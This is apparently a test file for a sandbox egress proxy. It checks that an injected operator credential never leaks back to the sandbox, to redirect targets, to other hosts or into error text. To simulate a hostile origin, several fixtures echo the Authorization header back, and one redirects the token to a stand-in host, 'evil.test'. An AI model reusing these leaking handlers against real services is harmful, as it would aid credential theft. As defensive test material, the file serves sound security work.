import type { RequestListener } from 'node:http';
import { expect, test } from 'vitest';
import {
  type Lab,
  openLab,
  openObedientProxy,
  openOrigin,
  openTlsTunnel,
  openTunnel,
  requestText,
  say,
} from '../unit/sandbox/egress/egress-lab.ts';

const secret = 'operators-own-token';
const inject = { Authorization: `Bearer ${secret}` };

async function askFor(lab: Lab, path: string, headers: readonly string[] = []): Promise<string> {
  const tls = await openTlsTunnel(lab, lab.origin.authority);
  return await say(tls, requestText(`GET ${path} HTTP/1.1`, [`Host: ${lab.origin.authority}`, ...headers]));
}

type Echo = { readonly title: string; readonly answer: RequestListener; readonly told: RegExp };

const echoes: readonly Echo[] = [
  {
    title: 'in a header',
    answer: (request, response) => response.setHeader('X-You-Said', request.headers.authorization ?? '').end('whole'),
    told: /^HTTP\/1\.1 200 OK.*whole/s,
  },
  {
    title: 'in where it sends the client',
    answer: (request, response) => {
      const [, token] = request.headers.authorization?.split(' ') ?? [];
      response.writeHead(302, { location: `https://evil.test/?token=${token}` }).end();
    },
    told: /^HTTP\/1\.1 302/,
  },
  {
    title: 'in the words behind the status',
    answer: (request, response) => void response.writeHead(200, request.headers.authorization).end('whole'),
    told: /^HTTP\/1\.1 200 OK.*whole/s,
  },
  {
    title: 'in a page',
    answer: (request, response) => void response.end(JSON.stringify(request.headers)),
    told: /^$/,
  },
  {
    title: 'in a page, letter by letter',
    answer: async (request, response) => {
      for (const letter of request.headers.authorization ?? '') {
        await new Promise((written) => response.write(letter, written));
      }
      response.end();
    },
    told: /^(?:HTTP\/1\.1 200 OK.*)?$/s,
  },
  {
    title: 'in a trailer',
    answer: (request, response) => {
      response.writeHead(200, { trailer: 'X-You-Said' });
      response.write('whole');
      response.addTrailers({ 'X-You-Said': request.headers.authorization ?? '' });
      response.end();
    },
    told: /whole/,
  },
  {
    title: 'ahead of the answer',
    answer: (request, response) => {
      response.writeEarlyHints({
        link: '</style.css>; rel=preload',
        'x-you-said': request.headers.authorization ?? '',
      });
      response.end('whole');
    },
    told: /^HTTP\/1\.1 200 OK.*whole/s,
  },
];

test.for(echoes)('a credential that the host sends back $title does not reach the box', async ({ answer, told }) => {
  await using lab = await openLab({ answer, inject });

  const heard = await askFor(lab, '/echo');

  await lab.reported(1);
  expect(lab.origin.seen.plain.toLowerCase()).toContain(`authorization: bearer ${secret}`);
  expect(heard).toMatch(told);
  expect(heard).not.toContain(secret.slice(0, 4));
  expect(JSON.stringify(lab.attempts)).not.toContain(secret);
});

test.for(echoes)('positive control: without the defence, what is sent back $title is heard', async ({ answer }) => {
  const origin = await openOrigin('https', answer);
  const tls = await openTlsTunnel(openObedientProxy(origin.port), origin.authority);

  const heard = await say(
    tls,
    requestText('GET /echo HTTP/1.1', [`Host: ${origin.authority}`, `Authorization: Bearer ${secret}`]),
  );

  expect(heard.replace(/\r\n1\r\n/g, '')).toContain(secret);
  origin.close();
});

test('an answer that is cut for it is in the audit as denied, with a reason that does not repeat it', async () => {
  const answer: RequestListener = (request, response) => void response.end(request.headers.authorization);
  await using lab = await openLab({ answer, inject });

  await askFor(lab, '/echo');
  await lab.reported(1);

  expect(lab.attempts).toMatchObject([
    { decision: 'denied', status: 200, reason: 'the host sent back a credential that it had been given' },
  ]);
});

test('a box cannot ask for the answer in an encoding or in pieces, in which a credential is not seen', async () => {
  await using lab = await openLab({ inject });
  await using plain = await openLab();
  const headers = ['Accept-Encoding: gzip', 'Range: bytes=0-3', 'If-Range: "1"', 'User-Agent: npm'];

  await askFor(lab, '/x', headers);
  await askFor(plain, '/x', headers);

  expect(lab.origin.seen.plain).not.toMatch(/gzip|range/i);
  expect(lab.origin.seen.plain).toMatch(/user-agent: npm/i);
  expect(plain.origin.seen.plain).toMatch(/accept-encoding: gzip.*\r\nrange: bytes=0-3/is);
});

test("the operator's credential takes the place of the attacker's, however its name is spelt", async () => {
  await using lab = await openLab({ inject: { ...inject, 'USER-AGENT': 'sandpiper' } });

  await askFor(lab, '/x', [
    'Authorization: Bearer attackers',
    'AUTHORIZATION: Basic attackers',
    'User-Agent: attackers',
  ]);

  expect(lab.origin.seen.plain.match(/authorization: .*/gi)).toEqual([`authorization: Bearer ${secret}`]);
  expect(lab.origin.seen.plain.match(/user-agent: .*/gi)).toEqual(['user-agent: sandpiper']);
});

test('a credential stays with its own path', async () => {
  await using lab = await openLab();
  lab.egress.setPolicy(lab.allowing(lab.rule, { ...lab.rule, pathPrefix: '/own/', inject }));

  await askFor(lab, '/left-pad');
  await askFor(lab, '/own%2fleft-pad');
  const before = lab.origin.seen.plain;
  await askFor(lab, '/own/left-pad');

  expect(before).not.toContain(secret);
  expect(lab.origin.seen.plain).toContain(secret);
});

test('a redirect takes no credential to another host, even to one that may be read', async () => {
  const other = await openOrigin('http');
  await using lab = await openLab({
    scheme: 'http',
    inject,
    answer: (_request, response) => void response.writeHead(302, { location: `http://${other.authority}/x` }).end(),
  });
  lab.egress.setPolicy(lab.allowing(lab.rule, { ...lab.rule, port: other.port, inject: {} }));
  const ask = (authority: string) =>
    say(lab.dial(), requestText(`GET http://${authority}/x HTTP/1.1`, [`Host: ${authority}`]));

  const redirect = await ask(lab.origin.authority);
  const followed = await ask(other.authority);

  expect(redirect).toContain(`location: http://${other.authority}/x`);
  expect(lab.origin.seen.plain).toContain(secret);
  expect(followed).toContain('from the origin');
  expect(other.seen.plain).not.toMatch(/authorization/i);
  other.close();
});

test("a tunnel to one host does not carry another's credential there, whatever stands in Host", async () => {
  const other = await openOrigin('https');
  await using lab = await openLab({ inject, upstreamCaPem: other.caPem });
  lab.egress.setPolicy(lab.allowing(lab.rule, { ...lab.rule, port: other.port, inject: {} }));
  const tls = await openTlsTunnel(lab, other.authority);
  const honest = await openTlsTunnel(lab, other.authority);

  const mismatched = await say(tls, requestText('GET /x HTTP/1.1', [`Host: ${lab.origin.authority}`]));
  const matched = await say(honest, requestText('GET /x HTTP/1.1', [`Host: ${other.authority}`]));

  expect(mismatched).toContain('HTTP/1.1 403');
  expect(matched).toContain('from the origin');
  expect(other.seen.plain).not.toContain(secret);
  expect(lab.origin.seen.connections).toBe(0);
  other.close();
});

test('an origin that cannot prove its name is given no credential', async () => {
  await using lab = await openLab({ inject, upstreamCaPem: null });

  const answer = await askFor(lab, '/x');

  expect(answer).toContain('HTTP/1.1 502');
  expect(lab.origin.seen.wire + lab.origin.seen.plain).not.toContain(secret);
});

test('what the proxy says of a failure has no credential in it', async () => {
  await using lab = await openLab({
    scheme: 'http',
    inject,
    answer: (request) => void request.socket.end(`${request.headers.authorization}\r\n\r\n`),
  });
  const { authority } = lab.origin;

  const answer = await say(lab.dial(), requestText(`GET http://${authority}/ HTTP/1.1`, [`Host: ${authority}`]));

  expect(lab.origin.seen.plain).toContain(secret);
  expect(answer).toContain('HTTP/1.1 502');
  expect(answer + JSON.stringify(lab.attempts)).not.toContain(secret);
});

test('a tunnel that is opened and left says nothing to the host', async () => {
  await using lab = await openLab({ inject });

  const tunnel = await openTunnel(lab, lab.origin.authority);
  tunnel.destroy();

  expect(lab.origin.seen.connections).toBe(0);
});
